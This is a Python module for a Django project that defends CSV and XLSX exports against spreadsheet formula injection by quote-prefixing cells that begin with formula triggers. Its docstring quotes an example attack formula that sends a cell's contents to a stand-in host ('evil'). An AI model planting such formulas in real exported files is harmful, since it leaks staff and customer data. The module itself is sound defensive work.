"""Spreadsheet-safe cells: no exported value runs as a formula (OWASP "CSV injection").

Customer-controlled text (a ticket subject, a name, a refund description) ends up in CSV
and XLSX files that staff open in a spreadsheet. A cell whose text begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is read as a formula there
(``=HYPERLINK("http://evil/?"&A1,"Click")``). OWASP's remedy is used: such text is
prefixed with a single quote, which every spreadsheet shows as text. Numbers stay numbers
(``-12.50`` is a value, not a formula), and non-text values are left as they are.

One helper for every writer: :func:`neutralise` for the project's own CSV writers (the
right-of-access export), and :class:`CSV` / :class:`XLSX`, the django-import-export formats
of every admin export, which apply it through the library's own switch
``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT`` (settings). The library's stock escaping only
drops a leading ``=`` (``+``, ``-``, ``@`` pass, ``==x`` stays a formula) and turns every
cell into text (``None`` becomes ``"None"``): these formats replace it. In XLSX, text that
no longer begins with ``=`` is written by openpyxl as a string cell, never a formula.
"""

from __future__ import annotations

import re

from django.db import models
from import_export.formats import base_formats

# OWASP's list, plus the full-width forms some spreadsheet locales also accept.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def neutralise(value):
    """``value`` as a cell that cannot run: text starting with a formula trigger gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


# The same rule for PostgreSQL, for writers that let the database render their cells (the
# right-of-access export): a quote goes in front of text that starts with a trigger and is
# not a number, through lookahead constraints (PostgreSQL's regular expressions have them).
_SQL_PATTERN = "^(?=[{}-])(?!{}$)".format("".join(c for c in FORMULA_TRIGGERS if c != "-"), _NUMBER.pattern)


class SqlNeutralise(models.Func):
    """:func:`neutralise` as a database expression over a text expression. The regular
    expression runs only on values whose first character is a trigger (a cheap test first:
    most cells are plain)."""

    output_field = models.TextField()

    def as_sql(self, compiler, connection, **extra):
        sql, params = compiler.compile(self.source_expressions[0])
        return (
            f"CASE WHEN left({sql}, 1) = ANY(%s) THEN regexp_replace({sql}, %s, '''') ELSE {sql} END",
            (*params, list(FORMULA_TRIGGERS), *params, _SQL_PATTERN, *params),
        )


def sql_neutralise(expression) -> models.Func:
    return SqlNeutralise(expression)


def is_safe_cell(text: str) -> bool:
    """What a test asserts of every exported cell read back: no formula trigger in front."""
    return not text.startswith(FORMULA_TRIGGERS) or bool(_NUMBER.fullmatch(text))


class _SafeCells:
    def _escape_formulae(self, dataset):
        # Called by TablibFormat.export_data when IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is on.
        for _ in range(len(dataset)):
            dataset.append([neutralise(cell) for cell in dataset.lpop()])


class CSV(_SafeCells, base_formats.CSV):
    pass


class XLSX(_SafeCells, base_formats.XLSX):
    pass


EXPORT_FORMATS = [CSV, XLSX]
